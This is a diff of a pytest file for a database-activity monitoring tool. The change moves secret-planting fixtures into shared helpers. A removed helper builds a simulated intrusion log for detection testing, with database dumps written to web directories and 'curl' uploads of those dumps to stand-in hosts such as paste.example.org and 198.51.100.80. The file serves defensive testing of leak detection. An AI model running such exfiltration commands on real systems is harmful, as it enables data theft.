@@ -11,8 +11,6 @@ from __future__ import annotations
 import json
 import os
 import string
-import subprocess
-import time
 from pathlib import Path
 
 import pytest
@@ -26,9 +24,14 @@ from secrets_sweep import (
     assert_no_secret,
     assert_no_secret_in_files,
     leaked,
+    plant_homes,
+    planted_db_client_pids,
+    start_planted_clients,
+    stop_clients,
+    write_planted_log,
 )
 
-from osq_dbwatch import catalog, procfs
+from osq_dbwatch import catalog
 from osq_dbwatch.cmdline import (
     REDACTED,
     parse_db_command,
@@ -506,18 +509,8 @@ def test_sweep_helper_names_the_leaking_form() -> None:
 @pytest.fixture
 def planted_homes(tmp_path: Path) -> TableEnv:
     """One user whose every catalog history file holds every planted secret form."""
-    home = tmp_path / "home" / "alice"
-    home.mkdir(parents=True)
-    text = "\n".join([*SECRET_HISTORY.values(), *SECRET_CMDLINES.values()]) + "\n"
-    for source in catalog.HISTORY_SOURCES:
-        if source.suffix:
-            (home / source.path).mkdir(parents=True, exist_ok=True)
-            (home / source.path / ("planted" + source.suffix)).write_text(text)
-        else:
-            (home / source.path).write_text(text)
-    (tmp_path / "passwd").write_text(f"alice:x:1500:1500::{home}:/bin/bash\n")
-    (tmp_path / "group").write_text("alice:x:1500:\n")
-    return TableEnv(passwd_path=str(tmp_path / "passwd"), group_path=str(tmp_path / "group"))
+    passwd, group = plant_homes(tmp_path)
+    return TableEnv(passwd_path=passwd, group_path=group)
 
 
 def test_history_table_rows_carry_no_planted_secret(planted_homes: TableEnv) -> None:
@@ -535,33 +528,15 @@ def test_tables_json_output_carries_no_planted_secret(planted_homes: TableEnv, m
 
     monkeypatch.setattr(tables_cli, "TableEnv", lambda config: TableEnv(
         config, passwd_path=planted_homes.passwd_path, group_path=planted_homes.group_path))
-    bindir = tmp_path / "bin"
-    bindir.mkdir()
-    procs: list[subprocess.Popen[bytes]] = []
+    procs = start_planted_clients(tmp_path / "bin")
     try:
-        for form, line in SECRET_CMDLINES.items():
-            argv = line.split()  # as the shell would leave them after word splitting (quotes kept)
-            name = os.path.basename(argv[0])
-            if name in ("env",):
-                argv = argv[2:]
-                name = argv[0]
-            script = bindir / name
-            if not script.exists():
-                script.write_text("#!/usr/bin/perl\nsleep 60;\n")
-                script.chmod(0o755)
-            procs.append(subprocess.Popen([str(script), *argv[1:]], stdin=subprocess.DEVNULL,
-                                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
-        _wait_for_argv(procs)
         assert cli.main(["tables", "--json"]) == 0
     finally:
-        for proc in procs:
-            proc.kill()
-            proc.wait()
+        stop_clients(procs)
     out = capsys.readouterr()
     payload = json.loads(out.out)
     sessions = {int(r["pid"]) for r in payload["db_cli_sessions"]}
-    db_clients = [p.pid for p, line in zip(procs, SECRET_CMDLINES.values())
-                  if os.path.basename(line.split()[0]) in catalog.DB_TOOLS_BY_NAME]
+    db_clients = planted_db_client_pids(procs)
     assert set(db_clients) <= sessions  # the planted clients were seen, so their command lines were emitted
     assert len(payload["db_client_history"]) == (len(SECRET_HISTORY) + len(SECRET_CMDLINES)) * len(
         catalog.HISTORY_SOURCES)
@@ -569,62 +544,12 @@ def test_tables_json_output_carries_no_planted_secret(planted_homes: TableEnv, m
     assert_no_secret(out.err, "osq-dbwatch tables stderr")
 
 
-def _wait_for_argv(procs: list[subprocess.Popen[bytes]]) -> None:
-    """Until every process has exec'd (perl has replaced the forked Python's argv)."""
-    deadline = time.monotonic() + 10
-    for proc in procs:
-        while time.monotonic() < deadline:
-            argv = procfs.cmdline(proc.pid) or []
-            if argv and os.path.basename(argv[0]).startswith("perl"):
-                break
-            time.sleep(0.01)
-
-
-def _scenario_with_planted_secrets(path: Path) -> None:
-    """A log where every planted form reaches a finding: command lines of chained accesses, history entries."""
-    from correlate_scenarios.make_scenarios import MON, Log
-
-    log = Log()
-    t = MON + 2 * 86400 + 13 * 3600
-    for number, line in enumerate(SECRET_CMDLINES.values()):
-        pid = 5000 + 10 * number
-        out = f"/var/www/html/d{number}.sql"
-        # a web server's child: each access opens a chain that the dump and the upload complete; a
-        # line that runs no DB client is the shell's (the parent) that runs one
-        program = os.path.basename(line.split()[0])
-        if parse_db_command("/usr/bin/" + program, line.split()) is not None:
-            cmdline, parent_cmdline = line, f"sh -c {line} > {out}"
-        else:
-            cmdline, parent_cmdline = "mysqldump -u app shop", f"sh -c {line}; mysqldump -u app shop > {out}"
-        log.db_exec("web-7", t, "www-data", 33, cmdline, "/usr/bin/" + cmdline.split()[0], pid,
-                    "/usr/sbin/php-fpm8.2", parent_cmdline, session=False, cwd="/var/www/html")
-        log.dump_file("web-7", t + 3, out, "www-data", 33)
-        log.transfer("web-7", t + 30, "www-data", 33, f"curl -F f=@{out} https://paste.example.org/up",
-                     "/usr/bin/curl", pid + 1, session=False)
-        t += 7200
-    for number, entry in enumerate(SECRET_HISTORY.values()):
-        user, uid = f"h{number}", 4000 + number
-        out = f"/tmp/h{number}.csv"
-        obj = log._head("db_client_history", "pg-10", t, 1 + number)
-        obj["diffResults"] = {"removed": [], "added": [{
-            "uid": str(uid), "user": user, "file": f"/home/{user}/.psql_history", "file_mtime": str(t - 40),
-            "line": "1", "from_tail": "0", "command": entry, "engine": "postgres",
-            "dump_like": "1", "intent": "\\copy to", "output_path": out,
-        }]}
-        log.lines.append(json.dumps(obj))
-        log.dump_file("pg-10", t - 50, out, user, uid)
-        log.transfer("pg-10", t + 100, user, uid, f"curl -T {out} https://198.51.100.80/in", "/usr/bin/curl",
-                     9100 + number)
-        t += 7200
-    path.write_text("\n".join(log.lines) + "\n")
-
-
 @pytest.mark.parametrize("fmt", ["ocsf", "ecs"])
 def test_correlator_output_carries_no_planted_secret(fmt: str, tmp_path: Path, capsys) -> None:
     from correlate_scenarios.helpers import HERE, correlate
 
     log = tmp_path / "planted.log"
-    _scenario_with_planted_secrets(log)
+    write_planted_log(log)
     findings = correlate(["--config", os.path.join(HERE, "config.yml"), "--format", fmt, str(log)],
                          str(tmp_path / "state.sqlite"), str(tmp_path / "out.jsonl"))
     text = (tmp_path / "out.jsonl").read_text()
@@ -642,7 +567,7 @@ def test_correlator_state_carries_no_planted_secret(tmp_path: Path) -> None:
     from correlate_scenarios.helpers import HERE, correlate
 
     log = tmp_path / "planted.log"
-    _scenario_with_planted_secrets(log)
+    write_planted_log(log)
     state = str(tmp_path / "state.sqlite")
     correlate(["--config", os.path.join(HERE, "config.yml"), str(log)], state, str(tmp_path / "out.jsonl"))
     assert_no_secret_in_files([state, state + "-wal", state + "-shm"])
